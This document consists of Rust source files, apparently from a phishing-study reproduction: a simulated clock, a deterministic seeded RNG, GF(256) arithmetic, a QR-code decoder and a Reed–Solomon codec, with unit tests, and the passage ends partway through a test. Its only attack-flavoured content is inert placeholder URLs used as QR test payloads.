        let mut year = 1970;
        loop {
            let len = if is_leap(year) { 366 } else { 365 };
            if days >= len {
                days -= len;
                year += 1;
            } else if days < 0 {
                year -= 1;
                days += if is_leap(year) { 366 } else { 365 };
            } else {
                break;
            }
        }
        let mut month = 1u32;
        while days >= days_in_month(year, month) {
            days -= days_in_month(year, month);
            month += 1;
        }
        (year, month, days as u32 + 1)
    }

    /// The `(hour, minute, second)` of day.
    pub fn hms(self) -> (u32, u32, u32) {
        let secs = self.0.rem_euclid(DAY);
        (
            (secs / HOUR) as u32,
            ((secs % HOUR) / MINUTE) as u32,
            (secs % MINUTE) as u32,
        )
    }

    /// Calendar month of this instant.
    pub fn month(self) -> Month {
        Month(self.ymd().1)
    }

    /// Calendar year of this instant.
    pub fn year(self) -> i64 {
        self.ymd().0
    }

    /// `(year, month)` pair, the bucketing key of the paper's Figure 2.
    pub fn year_month(self) -> (i64, u32) {
        let (y, m, _) = self.ymd();
        (y, m)
    }

    /// Time elapsed from `earlier` to `self` (negative if `self` precedes it).
    pub fn since(self, earlier: SimTime) -> SimDuration {
        SimDuration(self.0 - earlier.0)
    }
}

impl std::ops::Add<SimDuration> for SimTime {
    type Output = SimTime;
    fn add(self, rhs: SimDuration) -> SimTime {
        SimTime(self.0 + rhs.as_seconds())
    }
}

impl std::ops::Sub<SimDuration> for SimTime {
    type Output = SimTime;
    fn sub(self, rhs: SimDuration) -> SimTime {
        SimTime(self.0 - rhs.as_seconds())
    }
}

impl std::ops::Sub for SimTime {
    type Output = SimDuration;
    fn sub(self, rhs: SimTime) -> SimDuration {
        self.since(rhs)
    }
}

impl fmt::Display for SimTime {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let (y, mo, d) = self.ymd();
        let (h, mi, s) = self.hms();
        write!(f, "{y:04}-{mo:02}-{d:02} {h:02}:{mi:02}:{s:02}")
    }
}

/// A shared, monotonically advancing simulation clock.
///
/// The clock is thread-safe: crawls run on worker threads while the pipeline
/// advances time between batches.
#[derive(Debug)]
pub struct Clock {
    now: AtomicI64,
}

impl Clock {
    /// A clock starting at `t0`.
    pub fn starting_at(t0: SimTime) -> Self {
        Clock {
            now: AtomicI64::new(t0.as_unix()),
        }
    }

    /// The current simulated instant.
    pub fn now(&self) -> SimTime {
        SimTime::from_unix(self.now.load(Ordering::SeqCst))
    }

    /// Advance the clock by `d` and return the new instant.
    ///
    /// # Panics
    ///
    /// Panics if `d` is negative: simulated time never rewinds.
    pub fn advance(&self, d: SimDuration) -> SimTime {
        assert!(!d.is_negative(), "clock cannot move backwards");
        SimTime::from_unix(self.now.fetch_add(d.as_seconds(), Ordering::SeqCst) + d.as_seconds())
    }

    /// Jump the clock forward to `t` if `t` is later than now; otherwise keep
    /// the current time. Returns the resulting instant.
    pub fn advance_to(&self, t: SimTime) -> SimTime {
        let target = t.as_unix();
        let mut cur = self.now.load(Ordering::SeqCst);
        while cur < target {
            match self
                .now
                .compare_exchange(cur, target, Ordering::SeqCst, Ordering::SeqCst)
            {
                Ok(_) => return t,
                Err(actual) => cur = actual,
            }
        }
        SimTime::from_unix(cur)
    }
}

impl Default for Clock {
    fn default() -> Self {
        // The study window opens in January 2024.
        Clock::starting_at(SimTime::from_ymd(2024, 1, 1))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn epoch_is_1970() {
        assert_eq!(SimTime::from_ymd(1970, 1, 1), SimTime::EPOCH);
    }

    #[test]
    fn known_unix_timestamps_round_trip() {
        // 2024-01-01 00:00:00 UTC == 1704067200
        assert_eq!(SimTime::from_ymd(2024, 1, 1).as_unix(), 1_704_067_200);
        // 2024-10-31 23:59:59 UTC == 1730419199
        assert_eq!(
            SimTime::from_ymd_hms(2024, 10, 31, 23, 59, 59).as_unix(),
            1_730_419_199
        );
    }

    #[test]
    fn ymd_round_trips_across_leap_years() {
        for &(y, m, d) in &[
            (1970, 1, 1),
            (1999, 12, 31),
            (2000, 2, 29),
            (2023, 3, 1),
            (2024, 2, 29),
            (2024, 10, 31),
            (2100, 3, 1),
        ] {
            let t = SimTime::from_ymd(y, m, d);
            assert_eq!(t.ymd(), (y, m, d), "date {y}-{m}-{d}");
        }
    }

    #[test]
    fn pre_epoch_dates_work() {
        let t = SimTime::from_ymd(1969, 12, 31);
        assert_eq!(t.as_unix(), -DAY);
        assert_eq!(t.ymd(), (1969, 12, 31));
    }

    #[test]
    fn hms_extraction() {
        let t = SimTime::from_ymd_hms(2024, 6, 15, 13, 45, 9);
        assert_eq!(t.hms(), (13, 45, 9));
        assert_eq!(t.ymd(), (2024, 6, 15));
    }

    #[test]
    fn duration_arithmetic() {
        let a = SimDuration::days(2) + SimDuration::hours(3);
        assert_eq!(a.as_hours(), 51);
        assert_eq!((a - SimDuration::days(3)).is_negative(), true);
        assert_eq!(SimDuration::hours(-5).abs(), SimDuration::hours(5));
    }

    #[test]
    fn time_minus_time_gives_duration() {
        let a = SimTime::from_ymd(2024, 1, 1);
        let b = SimTime::from_ymd(2024, 1, 25);
        assert_eq!((b - a).as_days(), 24);
        assert_eq!((a - b).as_days(), -24);
    }

    #[test]
    fn clock_advances_monotonically() {
        let c = Clock::starting_at(SimTime::from_ymd(2024, 1, 1));
        c.advance(SimDuration::hours(5));
        assert_eq!(c.now().hms().0, 5);
        // advance_to earlier time is a no-op
        c.advance_to(SimTime::from_ymd(2023, 1, 1));
        assert_eq!(c.now().ymd(), (2024, 1, 1));
        c.advance_to(SimTime::from_ymd(2024, 3, 1));
        assert_eq!(c.now().ymd(), (2024, 3, 1));
    }

    #[test]
    #[should_panic(expected = "backwards")]
    fn clock_rejects_negative_advance() {
        Clock::default().advance(SimDuration::seconds(-1));
    }

    #[test]
    fn month_abbreviations() {
        assert_eq!(Month(1).abbrev(), "Jan");
        assert_eq!(Month(10).abbrev(), "Oct");
        assert_eq!(SimTime::from_ymd(2024, 7, 9).month().abbrev(), "Jul");
    }

    #[test]
    fn display_formats() {
        let t = SimTime::from_ymd_hms(2024, 2, 29, 8, 5, 0);
        assert_eq!(t.to_string(), "2024-02-29 08:05:00");
        assert_eq!(SimDuration::hours(26).to_string(), "1d2h");
        assert_eq!(SimDuration::minutes(-90).to_string(), "-1h30m");
        assert_eq!(SimDuration::seconds(42).to_string(), "42s");
    }
}
