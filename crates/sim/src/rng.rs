//! Deterministic randomness fan-out.
//!
//! Every stochastic component of the reproduction (corpus synthesis, jitter
//! in crawl timing, attacker parameter draws) must be reproducible from a
//! single master seed, while remaining *independent* of evaluation order —
//! adding a component must not perturb the streams of existing ones. We get
//! both by deriving per-label sub-seeds with a SplitMix64-based hash of
//! `(master_seed, label)`.

use rand::rngs::StdRng;
use rand::SeedableRng;

/// Derives independent, labeled RNG streams from one master seed.
///
/// # Example
///
/// ```
/// use cb_sim::SeedFork;
/// use rand::Rng;
///
/// let fork = SeedFork::new(42);
/// let mut a = fork.rng("domains");
/// let mut b = fork.rng("messages");
/// // Streams with different labels are independent; same label reproduces.
/// let x: u64 = a.gen();
/// let y: u64 = fork.rng("domains").gen();
/// assert_eq!(x, y);
/// let z: u64 = b.gen();
/// assert_ne!(x, z);
/// ```
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct SeedFork {
    master: u64,
}

/// One round of the SplitMix64 output function.
fn splitmix64(mut z: u64) -> u64 {
    z = z.wrapping_add(0x9E37_79B9_7F4A_7C15);
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

/// FNV-1a over bytes, used only to digest labels into a 64-bit value.
fn fnv1a(bytes: &[u8]) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for &b in bytes {
        h ^= b as u64;
        h = h.wrapping_mul(0x0000_0100_0000_01B3);
    }
    h
}

impl SeedFork {
    /// A fork rooted at `master`.
    pub fn new(master: u64) -> Self {
        SeedFork { master }
    }

    /// The sub-seed for `label`.
    pub fn seed(&self, label: &str) -> u64 {
        splitmix64(self.master ^ splitmix64(fnv1a(label.as_bytes())))
    }

    /// A fresh `StdRng` for `label`. Calling twice with the same label yields
    /// identical streams.
    pub fn rng(&self, label: &str) -> StdRng {
        StdRng::seed_from_u64(self.seed(label))
    }

    /// A numbered sub-stream of `label`, for per-entity randomness
    /// (e.g. one stream per generated message).
    pub fn rng_indexed(&self, label: &str, index: u64) -> StdRng {
        StdRng::seed_from_u64(splitmix64(self.seed(label) ^ splitmix64(index)))
    }

    /// A child fork namespaced under `label`, so a subsystem can hand out its
    /// own labeled streams without colliding with siblings.
    pub fn child(&self, label: &str) -> SeedFork {
        SeedFork::new(self.seed(label))
    }
}

impl Default for SeedFork {
    fn default() -> Self {
        // The paper's study started in January 2024; an arbitrary fixed seed.
        SeedFork::new(0x2024_0115)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::Rng;

    #[test]
    fn same_label_reproduces() {
        let f = SeedFork::new(7);
        let a: Vec<u32> = f.rng("x").sample_iter(rand::distributions::Standard).take(8).collect();
        let b: Vec<u32> = f.rng("x").sample_iter(rand::distributions::Standard).take(8).collect();
        assert_eq!(a, b);
    }

    #[test]
    fn different_labels_differ() {
        let f = SeedFork::new(7);
        assert_ne!(f.seed("x"), f.seed("y"));
        assert_ne!(f.seed("x"), f.seed("x "));
    }

    #[test]
    fn different_masters_differ() {
        assert_ne!(SeedFork::new(1).seed("x"), SeedFork::new(2).seed("x"));
    }

    #[test]
    fn indexed_streams_differ() {
        let f = SeedFork::new(7);
        assert_ne!(
            f.rng_indexed("m", 0).gen::<u64>(),
            f.rng_indexed("m", 1).gen::<u64>()
        );
    }

    #[test]
    fn child_namespacing() {
        let f = SeedFork::new(7);
        let c1 = f.child("netsim");
        let c2 = f.child("phishgen");
        assert_ne!(c1.seed("domains"), c2.seed("domains"));
        // children are deterministic too
        assert_eq!(c1.seed("domains"), f.child("netsim").seed("domains"));
    }

    #[test]
    fn splitmix_known_vector() {
        // First output of SplitMix64 seeded with 0 is 0xE220A8397B1DCDAF.
        assert_eq!(splitmix64(0), 0xE220_A839_7B1D_CDAF);
    }
}
