//! Arithmetic in GF(2⁸) with the QR-code primitive polynomial
//! x⁸ + x⁴ + x³ + x² + 1 (0x11D).
//!
//! Log/antilog tables are built at first use; all field operations are table
//! lookups thereafter.

/// The QR primitive polynomial (reduced modulo x⁸).
const PRIMITIVE: u16 = 0x11D;

/// Exp/log tables. `exp` is doubled in length so products of logs never need
/// an explicit modulo.
struct Tables {
    exp: [u8; 512],
    log: [u8; 256],
}

fn tables() -> &'static Tables {
    use std::sync::OnceLock;
    static TABLES: OnceLock<Tables> = OnceLock::new();
    TABLES.get_or_init(|| {
        let mut exp = [0u8; 512];
        let mut log = [0u8; 256];
        let mut x: u16 = 1;
        #[allow(clippy::needless_range_loop)] // exp and log fill in lockstep
        for i in 0..255 {
            exp[i] = x as u8;
            log[x as usize] = i as u8;
            x <<= 1;
            if x & 0x100 != 0 {
                x ^= PRIMITIVE;
            }
        }
        for i in 255..512 {
            exp[i] = exp[i - 255];
        }
        Tables { exp, log }
    })
}

/// α raised to the `n`-th power (n taken modulo 255).
pub fn exp(n: usize) -> u8 {
    tables().exp[n % 255]
}

/// Discrete log base α of `x`.
///
/// # Panics
///
/// Panics if `x == 0` (zero has no logarithm).
pub fn log(x: u8) -> usize {
    assert!(x != 0, "log(0) is undefined in GF(256)");
    tables().log[x as usize] as usize
}

/// Field addition (and subtraction): XOR.
pub fn add(a: u8, b: u8) -> u8 {
    a ^ b
}

/// Field multiplication.
pub fn mul(a: u8, b: u8) -> u8 {
    if a == 0 || b == 0 {
        0
    } else {
        tables().exp[log(a) + log(b)]
    }
}

/// Field division.
///
/// # Panics
///
/// Panics if `b == 0`.
pub fn div(a: u8, b: u8) -> u8 {
    assert!(b != 0, "division by zero in GF(256)");
    if a == 0 {
        0
    } else {
        tables().exp[log(a) + 255 - log(b)]
    }
}

/// Multiplicative inverse.
///
/// # Panics
///
/// Panics if `x == 0`.
pub fn inv(x: u8) -> u8 {
    div(1, x)
}

/// Evaluate polynomial `coeffs` (highest-degree first) at `x` via Horner.
pub fn poly_eval(coeffs: &[u8], x: u8) -> u8 {
    let mut acc = 0u8;
    for &c in coeffs {
        acc = add(mul(acc, x), c);
    }
    acc
}

/// Multiply two polynomials (highest-degree first).
pub fn poly_mul(a: &[u8], b: &[u8]) -> Vec<u8> {
    if a.is_empty() || b.is_empty() {
        return Vec::new();
    }
    let mut out = vec![0u8; a.len() + b.len() - 1];
    for (i, &x) in a.iter().enumerate() {
        for (j, &y) in b.iter().enumerate() {
            out[i + j] ^= mul(x, y);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn exp_log_are_inverse() {
        for x in 1..=255u8 {
            assert_eq!(exp(log(x)), x);
        }
        for n in 0..255 {
            assert_eq!(log(exp(n)), n);
        }
    }

    #[test]
    fn generator_has_order_255() {
        assert_eq!(exp(0), 1);
        assert_eq!(exp(255), 1);
        // alpha^1 = 2 for this primitive polynomial
        assert_eq!(exp(1), 2);
        // alpha^8 = 0x11D reduced = 0x1D
        assert_eq!(exp(8), 0x1D);
    }

    #[test]
    fn mul_matches_schoolbook() {
        // Russian-peasant reference multiplication.
        fn slow_mul(mut a: u16, mut b: u16) -> u8 {
            let mut p = 0u16;
            while b > 0 {
                if b & 1 != 0 {
                    p ^= a;
                }
                a <<= 1;
                if a & 0x100 != 0 {
                    a ^= PRIMITIVE;
                }
                b >>= 1;
            }
            p as u8
        }
        for a in [0u8, 1, 2, 3, 0x53, 0xCA, 0xFF] {
            for b in [0u8, 1, 2, 0x8E, 0xFF] {
                assert_eq!(mul(a, b), slow_mul(a as u16, b as u16), "{a} * {b}");
            }
        }
    }

    #[test]
    fn div_inverts_mul() {
        for a in 1..=255u8 {
            let b = 0x5Au8;
            assert_eq!(div(mul(a, b), b), a);
            assert_eq!(mul(a, inv(a)), 1);
        }
    }

    #[test]
    fn poly_eval_horner() {
        // p(x) = x^2 + 3 over GF(256): p(2) = 4 ^ 3 = 7
        assert_eq!(poly_eval(&[1, 0, 3], 2), 7);
        assert_eq!(poly_eval(&[], 9), 0);
    }

    #[test]
    fn poly_mul_known_product() {
        // (x + 1)(x + 2) = x^2 + 3x + 2 in GF(256) (1^2=2? no: (x+1)(x+2) =
        // x^2 + (1^2)x + 1*2 = x^2 + 3x + 2 since addition is XOR)
        assert_eq!(poly_mul(&[1, 1], &[1, 2]), vec![1, 3, 2]);
    }

    #[test]
    #[should_panic(expected = "division by zero")]
    fn div_by_zero_panics() {
        div(1, 0);
    }
}
