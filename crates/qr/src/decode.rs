//! Full QR decoding: format recovery, unmasking, de-interleaving,
//! Reed–Solomon correction, and byte-mode segment parsing.

use crate::bits::BitReader;
use crate::matrix::QrMatrix;
use crate::reed_solomon;
use crate::tables::{block_info, byte_mode_count_bits, BlockInfo};
use std::fmt;

/// Errors from decoding a matrix.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum DecodeError {
    /// Neither format-information copy could be decoded.
    BadFormat,
    /// A block had more errors than its Reed–Solomon code can correct.
    Uncorrectable {
        /// Index of the failing block.
        block: usize,
    },
    /// The data stream did not start with a byte-mode segment.
    UnsupportedMode {
        /// The 4-bit mode indicator found.
        mode: u8,
    },
    /// The declared payload length exceeds the available data.
    Truncated,
}

impl fmt::Display for DecodeError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            DecodeError::BadFormat => write!(f, "format information unreadable"),
            DecodeError::Uncorrectable { block } => {
                write!(f, "block {block} has uncorrectable errors")
            }
            DecodeError::UnsupportedMode { mode } => {
                write!(f, "unsupported mode indicator {mode:04b}")
            }
            DecodeError::Truncated => write!(f, "payload truncated"),
        }
    }
}

impl std::error::Error for DecodeError {}

/// Reverse the encoder's interleaving, restoring per-block codewords
/// `(data ‖ parity)`.
fn deinterleave(stream: &[u8], info: &BlockInfo) -> Vec<Vec<u8>> {
    let num_blocks = info.g1_blocks + info.g2_blocks;
    let block_data_len =
        |i: usize| if i < info.g1_blocks { info.g1_data } else { info.g2_data };
    let mut blocks: Vec<Vec<u8>> = (0..num_blocks)
        .map(|i| Vec::with_capacity(block_data_len(i) + info.ec_per_block))
        .collect();
    let max_data = info.g1_data.max(info.g2_data);
    let mut pos = 0;
    for col in 0..max_data {
        for (i, block) in blocks.iter_mut().enumerate() {
            if col < block_data_len(i) {
                block.push(stream[pos]);
                pos += 1;
            }
        }
    }
    // parity region
    let mut parities: Vec<Vec<u8>> = vec![Vec::with_capacity(info.ec_per_block); num_blocks];
    for _col in 0..info.ec_per_block {
        for parity in parities.iter_mut() {
            parity.push(stream[pos]);
            pos += 1;
        }
    }
    for (block, parity) in blocks.iter_mut().zip(parities) {
        block.extend(parity);
    }
    blocks
}

/// Decode a QR matrix back to its byte payload.
///
/// # Errors
///
/// Returns [`DecodeError`] if the format information is unreadable, any
/// block is uncorrectable, or the segment is not byte-mode.
pub fn decode_matrix(matrix: &QrMatrix) -> Result<Vec<u8>, DecodeError> {
    let (level, mask) = matrix.read_format().ok_or(DecodeError::BadFormat)?;
    let version = matrix.version();
    let info = block_info(version, level);

    // Unmask a working copy, then read the zigzag bit stream.
    let mut work = matrix.clone();
    work.apply_mask(mask);
    let bits = work.extract_data_bits();
    let mut stream = vec![0u8; info.total_codewords()];
    for (i, chunk) in bits.chunks(8).take(stream.len()).enumerate() {
        let mut b = 0u8;
        for (j, &bit) in chunk.iter().enumerate() {
            if bit {
                b |= 1 << (7 - j);
            }
        }
        stream[i] = b;
    }

    // De-interleave and error-correct each block.
    let mut data = Vec::with_capacity(info.total_data());
    for (idx, mut block) in deinterleave(&stream, &info).into_iter().enumerate() {
        let data_len = block.len() - info.ec_per_block;
        reed_solomon::correct(&mut block, info.ec_per_block)
            .map_err(|_| DecodeError::Uncorrectable { block: idx })?;
        data.extend_from_slice(&block[..data_len]);
    }

    // Parse the byte-mode segment.
    let mut r = BitReader::new(&data);
    let mode = r.read(4).ok_or(DecodeError::Truncated)? as u8;
    if mode == 0 {
        // terminator: empty message
        return Ok(Vec::new());
    }
    if mode != 0b0100 {
        return Err(DecodeError::UnsupportedMode { mode });
    }
    let count = r
        .read(byte_mode_count_bits(version))
        .ok_or(DecodeError::Truncated)? as usize;
    let mut payload = Vec::with_capacity(count);
    for _ in 0..count {
        payload.push(r.read(8).ok_or(DecodeError::Truncated)? as u8);
    }
    Ok(payload)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::encode::encode_bytes;
    use crate::tables::EcLevel;

    #[test]
    fn round_trip_all_levels() {
        let payload = b"https://evil-site.example/dhfYWfH?user=victim";
        for level in [EcLevel::L, EcLevel::M, EcLevel::Q, EcLevel::H] {
            let s = encode_bytes(payload, level).unwrap();
            assert_eq!(decode_matrix(s.matrix()).unwrap(), payload, "{level:?}");
        }
    }

    #[test]
    fn round_trip_every_supported_version() {
        // Grow payloads to force each version at level L.
        for v in 1..=10usize {
            let cap = crate::encode::byte_capacity(v, EcLevel::L);
            let prev = if v == 1 {
                0
            } else {
                crate::encode::byte_capacity(v - 1, EcLevel::L)
            };
            let len = (prev + cap) / 2 + 1;
            let payload: Vec<u8> = (0..len).map(|i| (i % 251) as u8).collect();
            let s = encode_bytes(&payload, EcLevel::L).unwrap();
            assert_eq!(s.version(), v, "expected version {v}");
            assert_eq!(decode_matrix(s.matrix()).unwrap(), payload);
        }
    }

    #[test]
    fn round_trip_binary_payload() {
        let payload: Vec<u8> = (0..=255).collect();
        let s = encode_bytes(&payload, EcLevel::L).unwrap();
        assert_eq!(decode_matrix(s.matrix()).unwrap(), payload);
    }

    #[test]
    fn empty_payload_round_trips() {
        let s = encode_bytes(b"", EcLevel::M).unwrap();
        assert_eq!(decode_matrix(s.matrix()).unwrap(), b"");
    }

    #[test]
    fn module_damage_is_corrected() {
        let payload = b"https://evil-site.example/";
        let s = encode_bytes(payload, EcLevel::H).unwrap();
        let mut damaged = s.matrix().clone();
        // Flip a handful of data modules (simulating print damage / dirt).
        let positions = damaged.data_positions();
        for &(r, c) in positions.iter().step_by(positions.len() / 10).take(8) {
            let v = damaged.get(r, c);
            damaged.set(r, c, !v);
        }
        assert_eq!(decode_matrix(&damaged).unwrap(), payload);
    }

    #[test]
    fn heavy_damage_is_rejected_not_miscorrected() {
        let payload = b"https://ok.example/";
        let s = encode_bytes(payload, EcLevel::L).unwrap();
        let mut damaged = s.matrix().clone();
        for &(r, c) in damaged.data_positions().clone().iter().step_by(2) {
            let v = damaged.get(r, c);
            damaged.set(r, c, !v);
        }
        match decode_matrix(&damaged) {
            Err(_) => {}
            Ok(p) => assert_ne!(p, payload.to_vec(), "silent miscorrection to original"),
        }
    }

    #[test]
    fn format_damage_is_tolerated() {
        let payload = b"resilient";
        let s = encode_bytes(payload, EcLevel::M).unwrap();
        let mut damaged = s.matrix().clone();
        // Corrupt two bits of format copy 1; BCH decoding must survive.
        let v = damaged.get(8, 0);
        damaged.set(8, 0, !v);
        let v = damaged.get(8, 1);
        damaged.set(8, 1, !v);
        assert_eq!(decode_matrix(&damaged).unwrap(), payload);
    }

    #[test]
    fn deinterleave_inverts_interleave() {
        for (v, l) in [(3, EcLevel::Q), (8, EcLevel::M), (10, EcLevel::L)] {
            let info = block_info(v, l);
            let data: Vec<u8> = (0..info.total_data()).map(|i| (i * 7 % 256) as u8).collect();
            let stream = crate::encode::interleave(&data, &info);
            let blocks = deinterleave(&stream, &info);
            let mut reassembled = Vec::new();
            for (i, b) in blocks.iter().enumerate() {
                let dl = if i < info.g1_blocks { info.g1_data } else { info.g2_data };
                reassembled.extend_from_slice(&b[..dl]);
            }
            assert_eq!(reassembled, data, "v{v} {l:?}");
        }
    }
}
