//! Reed–Solomon codec over GF(2⁸) as used by QR codes (narrow-sense,
//! generator roots α⁰ … α^(n−k−1)).
//!
//! Encoding is polynomial long division by the generator; decoding runs
//! syndromes → Berlekamp–Massey → Chien search → Forney, correcting up to
//! ⌊ec/2⌋ byte errors per block.

use crate::gf256 as gf;

/// Build the degree-`ec` generator polynomial ∏(x − αⁱ), i = 0..ec.
pub fn generator(ec: usize) -> Vec<u8> {
    let mut g = vec![1u8];
    for i in 0..ec {
        g = gf::poly_mul(&g, &[1, gf::exp(i)]);
    }
    g
}

/// Compute `ec` parity bytes for `data`.
pub fn encode(data: &[u8], ec: usize) -> Vec<u8> {
    let gen = generator(ec);
    // Long division of data·x^ec by gen; remainder is the parity.
    let mut rem = vec![0u8; ec];
    for &d in data {
        let factor = gf::add(d, rem[0]);
        rem.rotate_left(1);
        rem[ec - 1] = 0;
        if factor != 0 {
            for (r, &g) in rem.iter_mut().zip(&gen[1..]) {
                *r = gf::add(*r, gf::mul(g, factor));
            }
        }
    }
    rem
}

/// Decoding failure.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct RsDecodeError {
    /// How many errors the locator implied (0 means "locator inconsistent").
    pub implied_errors: usize,
}

impl std::fmt::Display for RsDecodeError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(
            f,
            "reed-solomon decode failed (implied errors: {})",
            self.implied_errors
        )
    }
}

impl std::error::Error for RsDecodeError {}

/// Correct a full codeword (`data ‖ parity`) in place.
///
/// Returns the number of byte errors corrected.
///
/// # Errors
///
/// Returns [`RsDecodeError`] when more than ⌊ec/2⌋ errors are present.
pub fn correct(codeword: &mut [u8], ec: usize) -> Result<usize, RsDecodeError> {
    // Syndromes S_i = c(alpha^i).
    let syndromes: Vec<u8> = (0..ec).map(|i| gf::poly_eval(codeword, gf::exp(i))).collect();
    if syndromes.iter().all(|&s| s == 0) {
        return Ok(0);
    }

    // Berlekamp–Massey: find error-locator polynomial sigma (lowest-degree
    // first here for convenience).
    let mut sigma = vec![1u8]; // current locator, ascending powers
    let mut prev = vec![1u8];
    let mut l = 0usize;
    let mut m = 1usize;
    let mut b = 1u8;
    for n in 0..ec {
        // discrepancy
        let mut d = syndromes[n];
        for i in 1..=l {
            if i < sigma.len() {
                d = gf::add(d, gf::mul(sigma[i], syndromes[n - i]));
            }
        }
        if d == 0 {
            m += 1;
        } else if 2 * l <= n {
            let t = sigma.clone();
            let coef = gf::div(d, b);
            // sigma = sigma - coef * x^m * prev
            let mut shifted = vec![0u8; m];
            shifted.extend(prev.iter().map(|&p| gf::mul(p, coef)));
            if shifted.len() > sigma.len() {
                sigma.resize(shifted.len(), 0);
            }
            for (s, &v) in sigma.iter_mut().zip(&shifted) {
                *s = gf::add(*s, v);
            }
            l = n + 1 - l;
            prev = t;
            b = d;
            m = 1;
        } else {
            let coef = gf::div(d, b);
            let mut shifted = vec![0u8; m];
            shifted.extend(prev.iter().map(|&p| gf::mul(p, coef)));
            if shifted.len() > sigma.len() {
                sigma.resize(shifted.len(), 0);
            }
            for (s, &v) in sigma.iter_mut().zip(&shifted) {
                *s = gf::add(*s, v);
            }
            m += 1;
        }
    }
    let num_errors = l;
    if num_errors * 2 > ec {
        return Err(RsDecodeError {
            implied_errors: num_errors,
        });
    }

    // Chien search: roots of sigma give error positions. With codeword
    // positions numbered j = 0..n-1 from the *first* byte, the locator roots
    // are X_k^{-1} where X_k = alpha^{n-1-j}.
    let n = codeword.len();
    let mut error_positions = Vec::new();
    for j in 0..n {
        let xk_inv = gf::exp((255 - (n - 1 - j)) % 255);
        // evaluate sigma (ascending) at xk_inv
        let mut acc = 0u8;
        for (i, &c) in sigma.iter().enumerate() {
            acc = gf::add(acc, gf::mul(c, gf::exp((gf_log_checked(xk_inv) * i) % 255)));
        }
        if acc == 0 {
            error_positions.push(j);
        }
    }
    if error_positions.len() != num_errors {
        return Err(RsDecodeError {
            implied_errors: num_errors,
        });
    }

    // Forney: error magnitudes. Omega = (S(x) * sigma(x)) mod x^ec, with
    // S(x) = sum S_i x^i (ascending).
    let mut omega = vec![0u8; ec];
    for (i, &s) in syndromes.iter().enumerate() {
        for (j, &c) in sigma.iter().enumerate() {
            if i + j < ec {
                omega[i + j] = gf::add(omega[i + j], gf::mul(s, c));
            }
        }
    }
    // sigma' (formal derivative; in GF(2) only odd-power terms survive)
    let sigma_deriv: Vec<u8> = sigma
        .iter()
        .enumerate()
        .skip(1)
        .map(|(i, &c)| if i % 2 == 1 { c } else { 0 })
        .collect(); // coefficient of x^{i-1}

    for &j in &error_positions {
        let xk = gf::exp((n - 1 - j) % 255);
        let xk_inv = gf::inv(xk);
        let omega_val = eval_ascending(&omega, xk_inv);
        let deriv_val = eval_ascending(&sigma_deriv, xk_inv);
        if deriv_val == 0 {
            return Err(RsDecodeError {
                implied_errors: num_errors,
            });
        }
        // Forney with b = 0: magnitude = Xk^(1-b) * Omega(Xk^-1) / sigma'(Xk^-1)
        let magnitude = gf::mul(xk, gf::div(omega_val, deriv_val));
        codeword[j] = gf::add(codeword[j], magnitude);
    }

    // Verify: recompute syndromes.
    for i in 0..ec {
        if gf::poly_eval(codeword, gf::exp(i)) != 0 {
            return Err(RsDecodeError {
                implied_errors: num_errors,
            });
        }
    }
    Ok(num_errors)
}

fn gf_log_checked(x: u8) -> usize {
    if x == 0 {
        0
    } else {
        gf::log(x)
    }
}

/// Evaluate an ascending-coefficient polynomial at `x`.
fn eval_ascending(coeffs: &[u8], x: u8) -> u8 {
    let mut acc = 0u8;
    for &c in coeffs.iter().rev() {
        acc = gf::add(gf::mul(acc, x), c);
    }
    acc
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn generator_degree_and_leading_coefficient() {
        for ec in [7, 10, 13, 17, 22, 30] {
            let g = generator(ec);
            assert_eq!(g.len(), ec + 1);
            assert_eq!(g[0], 1);
        }
    }

    #[test]
    fn known_qr_parity_vector() {
        // The canonical "HELLO WORLD" v1-M test vector (thonky.com QR
        // tutorial): these data codewords yield EC codewords
        // 196 35 39 119 235 215 231 226 93 23. Cross-checked against an
        // independent naive polynomial long division.
        let data = [
            0x20, 0x5B, 0x0B, 0x78, 0xD1, 0x72, 0xDC, 0x4D, 0x43, 0x40, 0xEC, 0x11, 0xEC, 0x11,
            0xEC, 0x11,
        ];
        let parity = encode(&data, 10);
        assert_eq!(
            parity,
            vec![0xC4, 0x23, 0x27, 0x77, 0xEB, 0xD7, 0xE7, 0xE2, 0x5D, 0x17]
        );
    }

    #[test]
    fn clean_codeword_needs_no_correction() {
        let data = b"The quick brown fox".to_vec();
        let parity = encode(&data, 8);
        let mut cw = data.clone();
        cw.extend(&parity);
        assert_eq!(correct(&mut cw, 8), Ok(0));
        assert_eq!(&cw[..data.len()], &data[..]);
    }

    #[test]
    fn corrects_up_to_half_ec_errors() {
        let data: Vec<u8> = (0..40).collect();
        let ec = 16;
        let parity = encode(&data, ec);
        let mut cw = data.clone();
        cw.extend(&parity);
        // flip 8 bytes (= ec/2) scattered through data and parity
        for (i, pos) in [0usize, 5, 11, 19, 23, 39, 42, 55].iter().enumerate() {
            cw[*pos] ^= (i as u8) + 1;
        }
        let fixed = correct(&mut cw, ec).expect("should correct 8 errors");
        assert_eq!(fixed, 8);
        assert_eq!(&cw[..40], &data[..]);
    }

    #[test]
    fn too_many_errors_fail() {
        let data: Vec<u8> = (0..30).collect();
        let ec = 10;
        let parity = encode(&data, ec);
        let mut cw = data.clone();
        cw.extend(&parity);
        for pos in [0usize, 3, 6, 9, 12, 15, 18] {
            cw[pos] ^= 0xA5; // 7 errors > ec/2 = 5
        }
        assert!(correct(&mut cw, ec).is_err());
    }

    #[test]
    fn single_error_in_every_position_is_corrected() {
        let data: Vec<u8> = vec![7, 99, 250, 0, 13];
        let ec = 4;
        let parity = encode(&data, ec);
